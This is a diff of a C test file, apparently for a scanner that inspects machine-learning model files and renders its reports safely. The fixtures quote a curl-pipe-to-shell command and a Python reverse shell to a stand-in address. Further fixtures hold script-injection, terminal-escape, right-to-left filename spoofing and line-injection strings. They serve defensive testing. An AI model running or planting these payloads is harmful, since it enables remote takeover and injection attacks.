@@ -32,22 +32,27 @@ static const struct gh_finding f_note[] = {
 	{ &r_note, "producer: pytorch 2.1", "", 8, 20, true, 1 },
 };
 static const struct gh_finding f_unsafe[] = {
-	{ &r_call, "os.system('curl http://198.51.100.7/x | sh'): runs a command of the operating system", "archive/data.pkl",
-	  24, 57, true, 1 },
-	{ &r_call, "builtins.exec('import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
-		   "s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0)'): runs Python code from a string",
+	{ &r_call, "os.system('curl http://198.51.100.7/x | sh'): runs a command of the operating system",
+	  "archive/data.pkl", 24, 57, true, 1 },
+	{ &r_call,
+	  "builtins.exec('import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
+	  "s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0)'): runs Python code from a string",
 	  "archive/data.pkl", 310, 188, true, 3 },
 	{ &r_locked, "method 0, flag bit 0 set", "archive/data/7", 0, 0, false, 1 },
 	{ &r_name, "content is a zip archive, the name says .safetensors", "", 0, 4, true, 1 },
 	{ &r_note, "producer: pytorch 2.1", "archive/version", 0, 2, true, 1 },
 };
 static const struct gh_finding f_locked[] = { { &r_locked, "AES-256, 4 members", "secret.pkl", 0, 0, false, 4 } };
-static const struct gh_finding f_name[] = { { &r_name, "content is a pickle, the name says .json", "", 0, 2, true, 1 } };
+static const struct gh_finding f_name[] = { { &r_name, "content is a pickle, the name says .json", "", 0, 2, true,
+					      1 } };
 static const struct gh_finding f_bare[] = { { &r_bare, NULL, NULL, 0, 0, false, 1 } };
 
-/* Detail and member are made safe before they enter a report; these were not, and the writers must hold all the same. */
+/* Detail and member are made safe before they enter a report; these were not, and the writers must hold all the same.
+ */
 static const struct gh_finding f_hostile[] = {
-	{ &r_call, "</script><script>alert(1)</script> \033[2J\033[1;1H [click](http://198.51.100.7) \xe2\x80\xae""dluoc\xff & 'q' \"d\"",
+	{ &r_call,
+	  "</script><script>alert(1)</script> \033[2J\033[1;1H [click](http://198.51.100.7) \xe2\x80\xae"
+	  "dluoc\xff & 'q' \"d\"",
 	  "a\r\nFAKE: CLEAN\r\nb > <img src=x onerror=alert(1)>", UINT64_MAX, UINT64_MAX, true, UINT32_MAX },
 };
 
@@ -74,9 +79,12 @@ static const struct gh_file_report files_many[] = {
 	{ "hub/c/odd.bin", "gguf", SUM_A, 77, 70, 0, 0, GH_REVIEW, f_bare, 1, 0 },
 };
 static const struct gh_file_report files_hostile[] = {
-	{ "dir\\\033]0;owned\007/<b>\xff\xfe&\xe2\x80\xae""gpj.exe", "zip", SUM_A, UINT64_MAX, UINT64_MAX, UINT64_MAX, UINT64_MAX,
-	  GH_UNSAFE, f_hostile, 1, UINT64_MAX },
-	{ "dir\xc2\x9b""31m/CLEAN", "unknown", "", 7, 0, 0, 0, GH_INCOMPLETE, f_locked, 1, 0 },
+	{ "dir\\\033]0;owned\007/<b>\xff\xfe&\xe2\x80\xae"
+	  "gpj.exe",
+	  "zip", SUM_A, UINT64_MAX, UINT64_MAX, UINT64_MAX, UINT64_MAX, GH_UNSAFE, f_hostile, 1, UINT64_MAX },
+	{ "dir\xc2\x9b"
+	  "31m/CLEAN",
+	  "unknown", "", 7, 0, 0, 0, GH_INCOMPLETE, f_locked, 1, 0 },
 };
 
 #define SAMPLE(name, verdict, files, bytes) \
